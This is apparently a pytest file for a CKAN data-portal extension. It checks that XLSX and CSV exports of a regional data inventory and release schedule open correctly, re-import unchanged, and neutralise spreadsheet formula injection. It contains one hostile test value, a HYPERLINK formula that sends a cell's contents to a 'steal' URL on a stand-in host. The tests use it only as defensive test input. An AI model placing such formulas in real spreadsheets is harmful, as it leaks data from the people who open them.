"""Exports of the Daftar Data Daerah and the Jadwal Rilis: XLSX that opens in
openpyxl with the right sheets and no formula cell, CSV neutralised, and a
downloaded list that imports again as it was."""

from __future__ import annotations

import base64
import csv
import io
from typing import Any

import pytest
from ckan.tests.helpers import call_action
from openpyxl import load_workbook
from plan_support import ROWS, Plan, csv_file, import_plan, items_by_id_ddd

from ckanext.satudata.harvesters.spreadsheet import inventory

pytestmark = pytest.mark.usefixtures("with_plugins")

# A name a spreadsheet would run as a formula, and one starting with "-".
HOSTILE = '=HYPERLINK("http://example.org/steal?"&A1,"Klik")'


def export(**data: Any) -> tuple[str, bytes]:
    found = call_action("satudata_daftar_data_export", **data)
    return found["filename"], base64.b64decode(found["content"])


def hostile_plan(plan: Plan) -> None:
    """Cells that would run as formulas, as text in a CSV list (an XLSX
    formula cell is read by its cached value)."""
    rows = [list(row) for row in ROWS]
    rows[0][1] = HOSTILE
    rows[1][12] = "-1 tahun dari RPJMD"  # Kriteria Prioritas
    import_plan(plan.roles.name("walidata") or "", csv_file(rows))


def formula_cells(content: bytes) -> list[str]:
    workbook = load_workbook(io.BytesIO(content))
    return [
        f"{sheet.title}!{cell.coordinate}"
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]


def test_daftar_data_xlsx_has_its_sheets_and_no_formula(plan: Plan) -> None:
    hostile_plan(plan)
    dataset = plan.roles.dataset(name="jumlah-puskesmas")
    call_action(
        "satudata_daftar_data_link",
        context=plan.roles.context("producer"),
        id=plan.item_id("DDD-6401-DINKES-001"),
        package_id=dataset["id"],
    )
    filename, content = export(tahun=2025)
    assert filename == "daftar-data-2025.xlsx"
    workbook = load_workbook(io.BytesIO(content))
    assert workbook.sheetnames == ["Daftar Data", "Ringkasan"]
    assert formula_cells(content) == []
    sheet = workbook["Daftar Data"]
    header = [cell.value for cell in sheet[1]]
    assert header[: len(inventory.COLUMNS)] == [column.label for column in inventory.COLUMNS]
    rows = {
        row[0]: dict(zip(header, row, strict=True))
        for row in sheet.iter_rows(min_row=2, values_only=True)
    }
    assert sorted(rows) == sorted(row[0] for row in ROWS)
    puskesmas = rows["DDD-6401-DINKES-001"]
    assert puskesmas["Nama Data"] == "'" + HOSTILE  # shown as text, never run
    assert puskesmas["Produsen Data"] == "Dinas Kesehatan Kabupaten Paser"
    assert (puskesmas["Jenis Data"], puskesmas["Satuan"], puskesmas["Data Prioritas"]) == (
        "Statistik",
        "Unit",
        "Ya",
    )
    assert puskesmas["Jadwal Rilis"].date().isoformat() == "2025-03-31"  # a real date cell
    # Computed columns, headed in the request's language (English outside a request).
    assert puskesmas["Stage"] == "Published"
    assert puskesmas["Datasets"] == "http://test.ckan.net/dataset/jumlah-puskesmas"
    assert rows["DDD-6401-DINKES-002"]["Stage"] == "Overdue"
    assert rows["DDD-6401-DINKES-002"]["Kriteria Prioritas"] == "'-1 tahun dari RPJMD"
    summary = list(workbook["Ringkasan"].iter_rows(values_only=True))
    assert [line[0] for line in summary[1:]] == [
        "Dinas Kesehatan Kabupaten Paser", "Dinas Pertanian Kabupaten Paser", "Whole kabupaten",
    ]  # fmt: skip
    assert summary[-1][1] == len(ROWS)


def test_jadwal_rilis_xlsx_and_csv(plan: Plan) -> None:
    hostile_plan(plan)
    filename, content = export(tahun=2025, list="jadwal-rilis")
    assert filename == "jadwal-rilis-2025.xlsx"
    workbook = load_workbook(io.BytesIO(content))
    assert workbook.sheetnames == ["Jadwal Rilis"]
    assert formula_cells(content) == []
    lines = list(workbook["Jadwal Rilis"].iter_rows(min_row=2, values_only=True))
    # In date order; the item without a date last.
    assert [line[1] for line in lines] == [
        "DDD-6401-DINKES-001", "DDD-6401-DISTAN-001", "DDD-6401-DINKES-002",
        "DDD-6401-DINKES-003", "DDD-6401-DISTAN-002",
    ]  # fmt: skip
    assert lines[-1][0] is None

    filename, content = export(tahun=2025, list="jadwal-rilis", format="csv")
    assert filename == "jadwal-rilis-2025.csv"
    text = content.decode("utf-8")
    assert text.startswith("\ufeff")  # Excel reads the file as UTF-8
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    assert rows[0][:3] == ["Jadwal Rilis", "ID DDD", "Nama Data"]
    assert rows[1][:3] == ["2025-03-31", "DDD-6401-DINKES-001", "'" + HOSTILE]
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


def test_a_downloaded_daftar_data_imports_again_as_it_was(plan: Plan) -> None:
    before = items_by_id_ddd()
    _, content = export(tahun=2025)
    result = import_plan(plan.roles.name("walidata") or "", content)
    assert (result["created"], result["updated"], result["removed"]) == (0, len(ROWS), 0)
    after = items_by_id_ddd()
    fields = ("nama_data", "jenis", "klasifikasi", "satuan", "jadwal_pemutakhiran", "topik",
              "subtopik", "prioritas", "kriteria_prioritas", "jadwal_rilis", "organization")  # fmt: skip
    for id_ddd, item in before.items():
        assert {f: after[id_ddd][f] for f in fields} == {f: item[f] for f in fields}, id_ddd


def test_the_download_pages_serve_the_same_files(app: Any, plan: Plan) -> None:
    response = app.get("/daftar-data/2025/unduh/daftar-data.xlsx")
    assert response.headers["Content-Disposition"] == 'attachment; filename="daftar-data-2025.xlsx"'
    assert load_workbook(io.BytesIO(response.data)).sheetnames == ["Daftar Data", "Ringkasan"]
    response = app.get("/daftar-data/2025/unduh/jadwal-rilis.csv")
    assert response.content_type.startswith("text/csv")
    assert "DDD-6401-DINKES-001" in response.get_data(as_text=True)
    app.get("/daftar-data/2025/unduh/rahasia.xlsx", status=404)
    app.get("/daftar-data/2019/unduh/daftar-data.xlsx", status=404)
